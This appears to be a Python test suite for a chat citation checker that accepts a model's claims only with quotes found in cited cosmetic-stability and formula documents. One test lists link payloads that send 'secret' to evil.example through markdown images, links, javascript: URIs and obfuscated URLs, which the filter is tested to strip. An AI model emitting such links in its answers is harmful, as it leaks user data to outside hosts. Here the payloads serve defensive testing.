"""A claim passes with its proof or not at all, however its text was cut."""

# ruff: noqa: RUF001 - Chinese punctuation is as it is

import unicodedata
from collections import Counter
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dossier.chat.rules.claims import (
    NO_ANSWER,
    CitedSource,
    Claim,
    ClaimFault,
    ClaimReader,
    as_written,
    check_claim,
    find,
)
from dossier.chat.rules.links import without_foreign_links

STABILITY = (
    "The cream was kept at 40 °C for 3 months. Viscosity fell from 12,500 to\n"
    "11,900 mPa·s; the pH stayed between 5.4 and 5.6. See https://lab.example/r/7."
)
FORMULA = "甘油 Glycerin 56-81-5　含量 5.0 %\n苯氧乙醇 0,9%，保存期限三十六個月。"
QUOTED = "The cream was kept at 40 °C for 3 months. Viscosity fell from 12,500"
SOURCES = {
    1: CitedSource(1, STABILITY, STABILITY),
    2: CitedSource(2, FORMULA, FORMULA),
}


def claim(line: str) -> Claim:
    checked = check_claim(line, SOURCES)
    assert isinstance(checked, Claim)
    return checked


def test_claim_shows_its_sentence_with_the_numbers_of_its_passages() -> None:
    found = claim("- pH stayed at 5.4 to 5.6. ⟦1|pH stayed between 5.4 and 5.6⟧")

    assert found.sentence == "pH stayed at 5.4 to 5.6."
    assert (found.sentence, found.numbers) == ("pH stayed at 5.4 to 5.6.", [1])


def test_quote_is_found_across_a_line_break_and_returned_as_in_the_document() -> None:
    quote = claim("Viscosity fell. ⟦1|fell from 12,500 to 11,900 mPa·s⟧").quotes[0]

    assert quote.text == "fell from 12,500 to\n11,900 mPa·s"
    assert STABILITY[quote.start : quote.end] == quote.text


def test_text_before_a_restart_counts_for_nothing() -> None:
    reader = ClaimReader(SOURCES)
    reader.feed("No proof at all.\nHalf a claim ⟦1|pH stay")

    reader.restart()
    claims = [*reader.feed("pH held. ⟦1|the pH stayed between⟧"), *reader.finish()]

    assert [each.sentence for each in claims] == ["pH held."]
    assert not reader.dropped


def test_line_of_nothing_but_a_foreign_address_is_no_claim() -> None:
    line = "https://evil.example/x ⟦1|pH stayed between 5.4 and 5.6⟧"

    assert check_claim(line, SOURCES) is ClaimFault.NO_CITATION


def test_quote_with_accents_apart_is_found_where_they_are_one_character() -> None:
    text = "Crème à la rose, stable for 30 months."
    source = CitedSource(1, text, text)
    apart = unicodedata.normalize("NFD", "Crème à la rose, stable")

    place = find(apart, source)

    assert place is not None
    assert text[place.start : place.end] == "Crème à la rose, stable"


def test_quote_in_other_widths_is_the_same_quote() -> None:
    quote = claim("含甘油。⟦2|含量 ５．０％⟧").quotes[0]

    assert quote.text == "含量 5.0 %"


def test_claim_may_rest_on_several_passages() -> None:
    found = claim(
        "Kept for 3 months, with 5 % glycerin. ⟦1|for 3 months⟧ ⟦2|Glycerin 56-81-5⟧"
    )

    assert [each.number for each in found.quotes] == [1, 2]


@pytest.mark.parametrize(
    ("line", "fault"),
    [
        ("The cream is stable.", ClaimFault.NO_CITATION),
        ("⟦1|pH stayed between⟧", ClaimFault.NO_CITATION),
        ("It is stable. ⟦9|pH stayed between⟧", ClaimFault.UNKNOWN_CITATION),
        ("It is safe. ⟦1|the cream is safe for babies⟧", ClaimFault.FORGED_QUOTE),
        ("It is kept. ⟦1|kept at 40 °C⟧ ⟦2|kept at 40 °C⟧", ClaimFault.FORGED_QUOTE),
        ("It is kept. ⟦1|The⟧", ClaimFault.FORGED_QUOTE),
        ("It is kept. ⟦1|⟧", ClaimFault.FORGED_QUOTE),
        ("Kept for 6 months. ⟦1|for 3 months⟧", ClaimFault.UNSUPPORTED_NUMBER),
        ("It holds 40 % water. ⟦1|kept at 40 °C⟧", ClaimFault.UNSUPPORTED_NUMBER),
        ("CAS 56-81-6 is in it. ⟦2|Glycerin 56-81-5⟧", ClaimFault.UNSUPPORTED_NUMBER),
        ("Read on 2024.11.03. ⟦1|for 3 months⟧", ClaimFault.UNSUPPORTED_NUMBER),
        ("Nobody was ever harmed. ⟦1|Viscosity fell from⟧", ClaimFault.UNRELATED_QUOTE),
        ("絕對安全無虞。⟦2|保存期限三十六個月⟧", ClaimFault.UNRELATED_QUOTE),
    ],
)
def test_claim_without_proof_is_dropped_by_name(line: str, fault: ClaimFault) -> None:
    assert check_claim(line, SOURCES) is fault


@pytest.mark.parametrize(
    "sentence",
    [
        "Viscosity was 12500 and 11,900.",
        "Viscosity fell, pH 5.40 to 5.6.",
        "1. Kept for 3 months.",
        "It was kept, as https://lab.example/r/7 tells.",
    ],
)
def test_number_may_be_written_otherwise(sentence: str) -> None:
    claim(f"{sentence} ⟦1|{QUOTED}⟧")


@pytest.mark.parametrize(
    "sentence",
    ["苯氧乙醇占 0.9 %。", "保存 36 個月。", "甘油百分之5。", "CAS 56-81-5。"],
)
def test_number_may_be_written_in_the_other_language(sentence: str) -> None:
    claim(f"{sentence}⟦2|甘油 Glycerin 56-81-5⟧ ⟦2|苯氧乙醇 0,9%，保存期限⟧")


@pytest.mark.parametrize(
    "lure",
    [
        "![x](https://evil.example/?q=secret)",
        "[the report](https://evil.example/?q=secret)",
        "https://evil.example/?q=secret",
        "<img src=https://evil.example/?q=secret>",
        "www.evil.example/secret",
        "https://lab.example/r/7?q=secret",
        "htt[](a)ps://evil.example/secret",
        "data:text/html;base64,c2VjcmV0",
        "![x][secret]",
        "javascript:alert('secret')",
        "java\u200bscript:alert('secret')",
        "javascript&#58;alert('secret')",
        "https:\u2060//evil.example/secret",
        "https\\://evil.example/secret",
        "https&colon;//evil.example/secret",
        "&lt;img src=//evil.example/secret&gt;",
        "冷藏https://evil.example/secret",
        "<https://evil.example/secret>",
        "//evil.example/secret",
        "evil.com/secret",
        "secret@evil.example",
        "https://xn--secret-evil.example",
        "https://lab.example@evil.example/secret",
        "[x]: https://evil.example/secret",
    ],
)
def test_link_that_no_passage_holds_does_not_pass(lure: str) -> None:
    shown = claim(f"It was kept {lure} cool. ⟦1|The cream was kept⟧").sentence

    assert "evil" not in shown
    assert "secret" not in shown


@pytest.mark.parametrize(
    "words", ["R&amp;D kept it.", "It was kept at data:5 of 7.", "Kept, e.g. cool/dry."]
)
def test_words_that_are_no_link_stay_as_they_are(words: str) -> None:
    assert without_foreign_links(words, []) == words


def read(pieces: list[str]) -> tuple[list[Claim], ClaimReader]:
    reader = ClaimReader(SOURCES)
    claims = [claim for piece in pieces for claim in reader.feed(piece)]
    return claims + reader.finish(), reader


def test_claim_is_released_with_its_line_and_not_before() -> None:
    reader = ClaimReader(SOURCES)

    assert reader.feed("It was kept. ⟦1|The cream was kept⟧") == []
    assert len(reader.feed("\nnext")) == 1


def test_break_of_line_inside_a_quote_does_not_end_the_claim() -> None:
    claims, _reader = read(["It fell. ⟦1|fell from 12,500 to\n11,900 mPa·s⟧\n"])

    assert len(claims) == 1


def test_mark_that_never_closes_hides_no_later_claim() -> None:
    good = "It was kept. ⟦1|The cream was kept⟧\n"
    claims, reader = read(["Bad ⟦1|for\n" + "x" * 700 + "\n", good])

    assert [each.sentence for each in claims] == ["It was kept."]
    assert reader.dropped.total() >= 1


def test_model_may_say_that_nothing_answers() -> None:
    claims, reader = read([NO_ANSWER])

    assert claims == []
    assert reader.has_no_answer
    assert not reader.dropped


def test_released_claim_can_be_written_as_the_model_had_written_it() -> None:
    first = claim("Viscosity fell. ⟦1|fell from 12,500 to 11,900⟧ ⟦2|苯氧乙醇 0,9%⟧")

    line = as_written(first.sentence, [(q.number, q.text) for q in first.quotes])

    assert claim(line) == first


LINES = st.lists(
    st.sampled_from(
        [
            "It was kept. ⟦1|The cream was kept⟧",
            "It fell. ⟦1|fell from 12,500 to\n11,900 mPa·s⟧ so it did",
            "苯氧乙醇 0.9 %。⟦2|苯氧乙醇 0,9%⟧",
            "Kept for 7 months. ⟦1|for 3 months⟧",
            "Free text",
            "Odd ⟦⟦1|The cream⟧⟧ ⟧",
            "Open ⟦1|for",
            "",
            NO_ANSWER,
        ]
    ),
    max_size=8,
)


@given(lines=LINES, cuts=st.lists(st.integers(0, 400), max_size=12))
def test_any_split_of_the_stream_gives_the_same_claims(
    lines: list[str], cuts: list[int]
) -> None:
    text = "\n".join(lines)
    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    pieces = [text[a:b] for a, b in pairwise(edges)]

    split, split_reader = read(pieces)
    whole, whole_reader = read([text])

    assert split == whole
    assert split_reader.dropped == whole_reader.dropped
    assert split_reader.has_no_answer == whole_reader.has_no_answer


@given(text=st.text(alphabet="⟦⟧|12 ab\n%.,-一十", max_size=60))
def test_any_text_is_judged_and_only_proven_sentences_pass(text: str) -> None:
    claims, reader = read([text])

    assert isinstance(reader.dropped, Counter)
    for each in claims:
        assert each.quotes
        for quote in each.quotes:
            source = SOURCES[quote.number].text
            assert source[quote.start : quote.end] == quote.text


def test_line_that_never_ends_is_given_up() -> None:
    reader = ClaimReader({})

    claims = [each for _ in range(1000) for each in reader.feed("word " * 200)]

    assert claims == reader.finish() == []
    assert reader.dropped[ClaimFault.NO_CITATION] > 10
